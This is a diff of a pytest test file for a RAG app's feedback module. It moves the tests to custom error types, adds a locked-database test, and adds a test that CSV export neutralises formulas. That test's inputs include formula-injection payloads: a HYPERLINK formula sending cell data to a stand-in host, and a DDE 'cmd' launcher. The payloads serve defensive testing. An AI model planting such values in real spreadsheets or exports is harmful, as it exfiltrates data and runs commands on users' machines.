@@ -11,6 +11,7 @@ import pytest
 from sqlite_utils import Database
 
 from rag.database import MIGRATIONS, apply_migrations, open_db
+from rag.errors import DatabaseError, FeedbackError
 from rag.feedback import (
     FEEDBACK_REASONS,
     append_golden,
@@ -24,6 +25,7 @@ from rag.feedback import (
     record_feedback,
 )
 from tests.conftest import run_in_threads
+from tests.test_database import held_exclusive
 from tests.test_runlog import make_run
 
 
@@ -98,8 +100,25 @@ def test_rerating_updates_and_reopens_review(db):
     [(2, None, "score"), (-1, None, "score"), (0, "rude", "unknown reason")],
 )
 def test_record_feedback_rejects_bad_values(db, score, reason, message):
-    with pytest.raises(ValueError, match=message):
+    with pytest.raises(FeedbackError, match=message):
         record_feedback(db, make_run(), score, reason, None, "ana")
+    with pytest.raises(FeedbackError, match="run id"):
+        record_feedback(db, make_run(run_id=""), 1, None, None, "ana")
+    assert count_feedback(db) == 0
+
+
+def test_rating_on_a_locked_database_raises_database_error(tmp_path):
+    path = tmp_path / "app.db"
+    db = open_db(path, busy_timeout=0.1)
+    fid = record_feedback(db, make_run(), 0, "incorrect", None, "ana")
+    with held_exclusive(path):
+        with pytest.raises(DatabaseError, match="is busy") as caught:
+            record_feedback(db, make_run(), 1, None, None, "ben")
+        with pytest.raises(DatabaseError, match="is busy"):
+            mark_reviewed(db, fid, "done", "lead")
+    assert str(path) in str(caught.value) and "Try again" in str(caught.value)
+    assert count_feedback(db) == 1 and get_feedback(db, fid)["reviewed"] == 0
+    db.close()
 
 
 @pytest.fixture
@@ -170,7 +189,7 @@ def test_mark_reviewed_persists_across_connections(tmp_path):
         "rewrote section 4",
     )
     assert row["reviewed_at"]
-    with pytest.raises(LookupError):
+    with pytest.raises(FeedbackError, match="No rating with id 999"):
         mark_reviewed(open_db(path), 999, "", "lead")
 
 
@@ -186,9 +205,23 @@ def test_export_round_trips(db, rated):
         assert json.loads(back["cited_sources"]) == row["cited_sources"]
         assert back["question"] == row["question"] and int(back["id"]) == row["id"]
         assert back["reason"] == (row["reason"] or "")
-    assert export_feedback([], "csv") == "\n"
-    with pytest.raises(ValueError, match="format"):
+    assert export_feedback([], "csv") == "\r\n"
+    with pytest.raises(FeedbackError, match="format"):
         export_feedback(rows, "xml")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+)  # fmt: skip
+def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(text):
+    rows = [{"id": 7, "question": text, "comment": f"see {text}", "score": -1, "ms": -2.5}]
+    [back] = csv.DictReader(io.StringIO(export_feedback(rows, "csv"), newline=""))
+    assert back["question"] == "'" + text  # a spreadsheet shows it as text
+    assert back["comment"] == f"see {text}"  # only a leading formula character matters
+    assert (back["id"], back["score"], back["ms"]) == ("7", "-1", "-2.5")  # numbers stay numbers
+    assert [json.loads(export_feedback(rows, "jsonl"))] == rows
 
 
 def test_golden_case_and_append(db, tmp_path, rated):
@@ -205,8 +238,9 @@ def test_golden_case_and_append(db, tmp_path, rated):
     assert append_golden(path, golden_case(get_feedback(db, rated["c"]), "x", []))
     lines = [json.loads(line) for line in path.read_text().splitlines()]
     assert [c["question"] for c in lines] == ["question b", "question c"]
-    with pytest.raises(ValueError, match="corrected answer"):
+    with pytest.raises(FeedbackError, match="corrected answer") as caught:
         golden_case(row, "  ", [])
+    assert isinstance(caught.value, ValueError)  # the Feedback page still catches ValueError
 
 
 def test_feedback_reasons_are_the_agreed_list():
